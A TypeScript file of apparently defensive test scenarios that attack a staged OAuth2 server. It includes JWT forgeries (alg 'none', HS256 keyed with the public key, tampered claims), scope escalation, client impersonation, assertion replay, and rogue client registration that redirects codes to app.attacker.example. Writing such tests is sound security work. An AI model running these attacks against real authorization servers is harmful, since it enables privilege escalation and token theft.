/** Attacks with what the attacker makes: tokens, scopes, names and proofs. */
import { createHmac, createPublicKey, generateKeyPairSync, type JsonWebKey, type KeyObject, sign } from 'node:crypto'
import type { Backstage } from '../actor.ts'
import { bearer, call, fresh, post, type Tokens, tokensIn } from '../by-hand.ts'
import { initialAccessToken, service } from '../clients.ts'
import { beginLogin, codeIn, redeem, signInToApp } from '../native-login.ts'
import type { Attack } from '../play.ts'
import { authorized, codeAt, lootIf, postJson, registeredIn, tokensOf } from './trying.ts'

const encoded = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const decoded = (part = ''): Readonly<Record<string, unknown>> => JSON.parse(Buffer.from(part, 'base64url').toString())

/** The attacker's own tokens, from a login of their own. */
async function ownTokens(stage: Backstage): Promise<Tokens> {
  const begun = beginLogin(stage)
  const callback = await stage.person('bob', 'attacker').authorize(begun.url)
  const { verifier } = begun
  return await redeem(stage, stage.actor('attacker'), { code: codeIn(callback, begun), verifier })
}

/** The key by which the server signs, as everybody can read it. */
async function publicKeyOf({ fetch, places }: Backstage, kid: unknown): Promise<string> {
  const response = await fetch(new URL(`${places.auth}/oauth2/jwks`), {})
  const { keys } = (await response.json()) as { readonly keys: readonly (JsonWebKey & { readonly kid?: string })[] }
  const key = createPublicKey({ key: keys.find((one) => one.kid === kid) ?? {}, format: 'jwk' })
  return key.export({ type: 'spki', format: 'pem' }).toString()
}

/** The token with more rights than it was given: unsigned, signed with the public key for a secret, and under its old signature. */
async function forgeriesOf(stage: Backstage, token: string): Promise<readonly string[]> {
  const [head, body, signature] = token.split('.')
  const header = decoded(head)
  const claims = encoded({ ...decoded(body), scope: 'read admin' })
  const mac = `${encoded({ ...header, alg: 'HS256' })}.${claims}`
  const secret = await publicKeyOf(stage, header.kid)
  return [
    `${encoded({ ...header, alg: 'none' })}.${claims}.`,
    `${mac}.${createHmac('sha256', secret).update(mac).digest('base64url')}`,
    `${head}.${claims}.${signature}`,
  ]
}

/** A token that says more than the server said, in three disguises (RFC 8725 §2.1). */
export const algConfusion: Attack = {
  id: 'alg-confusion',
  off: 'access-token.signature',
  async play(stage) {
    const { accessToken } = await ownTokens(stage)
    const attacker = stage.actor('attacker')
    const statuses: number[] = []
    for (const forged of await forgeriesOf(stage, accessToken))
      statuses.push((await call(attacker, `${stage.places.resource}/api/admin`, forged)).status)
    return lootIf(statuses.includes(200), 'admin')
  },
}

/** A token that may read is shown where more is needed. */
export const scopeEscalation: Attack = {
  id: 'scope-escalation',
  off: 'bearer.scope',
  async play(stage) {
    const { accessToken } = await ownTokens(stage)
    const { status } = await call(stage.actor('attacker'), `${stage.places.resource}/api/admin`, accessToken)
    return lootIf(status === 200, 'admin')
  },
}

/** At the refresh, more is asked for than the person allowed (RFC 6749 §6). */
export const scopeWidening: Attack = {
  id: 'scope-widening',
  off: 'scope.notWidened',
  async play(stage) {
    const { auth, resource } = stage.places
    const { refreshToken } = await signInToApp(stage, stage.actor('client'), stage.person('alice'))
    stage.aside('token-copied:refresh_token', 'client', 'attacker')
    const attacker = stage.actor('attacker')
    const form = { grant_type: 'refresh_token', client_id: 'demo-client', refresh_token: refreshToken }
    const tokens = tokensOf(await post(attacker, `${auth}/oauth2/token`, { ...form, scope: 'read admin' }))
    if (tokens === undefined) return undefined
    return lootIf((await call(attacker, `${resource}/api/admin`, tokens.accessToken)).status === 200, 'admin')
  },
}

/** The attacker names a service that has a secret, and shows none. */
export const clientImpersonation: Attack = {
  id: 'client-impersonation',
  off: 'client.registeredMethod',
  async play(stage) {
    const { auth, resource } = stage.places
    const attacker = stage.actor('attacker')
    const form = { grant_type: 'client_credentials', client_id: service.clientId, scope: 'admin', resource }
    const tokens = tokensOf(await post(attacker, `${auth}/oauth2/token`, form))
    if (tokens === undefined) return undefined
    return lootIf((await call(attacker, `${resource}/api/admin`, tokens.accessToken)).status === 200, 'admin')
  },
}

/** What a service proves itself by, once: signed with its own key, for this server, now (RFC 7523). */
function assertionBy(key: KeyObject, clientId: string, audience: string): string {
  const now = Math.floor(Date.now() / 1000)
  const claims = { iss: clientId, sub: clientId, aud: audience, iat: now, exp: now + 60, jti: fresh() }
  const input = `${encoded({ alg: 'ES256', kid: 'own' })}.${encoded(claims)}`
  return `${input}.${sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`
}

/** A service that signs proves itself; whoever sees that proof sends it again. */
export const assertionReplay: Attack = {
  id: 'assertion-replay',
  off: 'client-assertion.unused',
  async play(stage) {
    const { auth } = stage.places
    const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
    const jwk = { ...publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'ES256' }
    const signer = stage.actor('client')
    const about = {
      client_name: 'Signing service',
      token_endpoint_auth_method: 'private_key_jwt',
      jwks: { keys: [jwk] },
    }
    const members = { ...about, grant_types: ['client_credentials'], response_types: [], scope: 'read' }
    const { clientId, uri, token } = registeredIn(
      await postJson(signer, `${auth}/oauth2/register`, members, initialAccessToken),
    )
    const form = {
      ...{ grant_type: 'client_credentials', scope: 'read' },
      client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
      client_assertion: assertionBy(privateKey, clientId, auth),
    }
    tokensIn(await post(signer, `${auth}/oauth2/token`, form))
    stage.aside('log-leaks:client_assertion', 'client', 'attacker')
    const stolen = tokensOf(await post(stage.actor('attacker'), `${auth}/oauth2/token`, form))
    await stage.fetch(new URL(uri), { method: 'DELETE', headers: bearer(token) })
    return lootIf(stolen !== undefined, 'service-tokens')
  },
}

const ATTACKERS_APP = 'https://app.attacker.example/callback'

/** Somebody registers an app under a good name, with an initial access token that nobody gave out (RFC 7591 §5). */
export const registrationAbuse: Attack = {
  id: 'registration-abuse',
  off: 'register.initialToken',
  async play(stage) {
    const { auth } = stage.places
    const attacker = stage.actor('attacker')
    const members = { client_name: 'Demo app', redirect_uris: [ATTACKERS_APP], token_endpoint_auth_method: 'none' }
    const answer = await postJson(attacker, `${auth}/oauth2/register`, members, fresh())
    if (answer.status !== 201) return undefined
    const { clientId: client_id } = registeredIn(answer)
    const begun = beginLogin(stage, { client_id, redirect_uri: ATTACKERS_APP })
    stage.aside('link-in-mail', 'attacker', 'browser')
    const code = codeAt(await authorized(stage.person('alice'), begun.url))
    stage.aside('code-delivered:code', 'browser', 'attacker')
    const form = { client_id, code: code ?? '', code_verifier: begun.verifier, redirect_uri: ATTACKERS_APP }
    const tokens = tokensOf(await post(attacker, `${auth}/oauth2/token`, { grant_type: 'authorization_code', ...form }))
    return lootIf(tokens !== undefined, 'tokens')
  },
}
